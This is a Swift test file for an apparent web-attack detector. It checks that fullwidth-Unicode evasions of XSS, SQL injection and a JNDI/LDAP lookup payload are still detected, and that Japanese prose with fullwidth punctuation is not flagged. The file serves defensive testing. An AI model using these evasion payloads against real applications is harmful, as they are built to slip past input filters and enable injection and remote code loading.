import PalisadeCore
import Testing

@testable import PalisadeDetect

/// Payloads in fullwidth forms (`＜script＞`), which NFKC-normalizing backends turn into ASCII:
/// folded by `FullwidthDecoder` and judged below the raw value (`>fullwidth`).
@Suite struct FullwidthEvasionTests {
    static func record(query: String) -> CaptureRecord {
        CaptureRecord(id: "r", ts: 1, method: "GET", rawPath: "/search?" + query, headers: [])
    }

    static func encoded(_ text: String) -> String {
        var out = ""
        for byte in text.utf8 {
            let plain = (byte >= 0x30 && byte <= 0x39) || ((byte | 0x20) >= 0x61 && (byte | 0x20) <= 0x7A)
            out += plain ? String(UnicodeScalar(byte)) : "%" + String(byte, radix: 16, uppercase: true)
        }
        return out
    }

    @Test(arguments: [
        ("＜script＞alert(1)＜/script＞", AttackClass.xss),
        ("＜ｉｍｇ ｓｒｃ＝ｘ ｏｎｅｒｒｏｒ＝ａｌｅｒｔ（１）＞", .xss),
        ("１＇ ＯＲ ＇１＇＝＇１", .sqli),
        ("＄｛ｊｎｄｉ：ｌｄａｐ：／／２０３．０．１１３．９／ａ｝", .jndi),
    ])
    func foldedPayloadsAreAttacks(_ payload: String, _ attackClass: AttackClass) {
        let (_, verdict) = Analyzer().analyze(Self.record(query: "q=" + Self.encoded(payload)))
        #expect(verdict.attack, "\(payload)")
        let hit = verdict.hits.first { $0.attackClass == attackClass }
        #expect(hit?.location.contains(">fullwidth") == true, "\(payload): \(verdict.hits.map(\.location))")
    }

    @Test(arguments: [
        "株式会社テスト（東京）：営業部／第一課", "価格＜１０００円の商品", "「ＡＢＣ」と＂ＸＹＺ＂を比較", "ＳＥＬＥＣＴ会員限定セール！",
        "「＄１９．９９」のプラン", "ファイルは Ｃ：＼Ｕｓｅｒｓ＼ｔａｎａｋａ に保存", "｛ｎａｍｅ｝様へ", "＂Ｈｅｌｌｏ＂と言った",
        "＜お知らせ＞年末年始の営業について", "価格は＄５０以上＜送料無料＞", "＜ｂｒ＞",
    ])
    func cjkProseIsNotAnAttack(_ text: String) {
        for sensitivity in [Sensitivity.default, .high] {
            let (_, verdict) = Analyzer(sensitivity: sensitivity).analyze(Self.record(query: "q=" + Self.encoded(text)))
            #expect(!verdict.attack, "\(text) at \(sensitivity): \(verdict.hits.map(\.rule))")
        }
    }
}
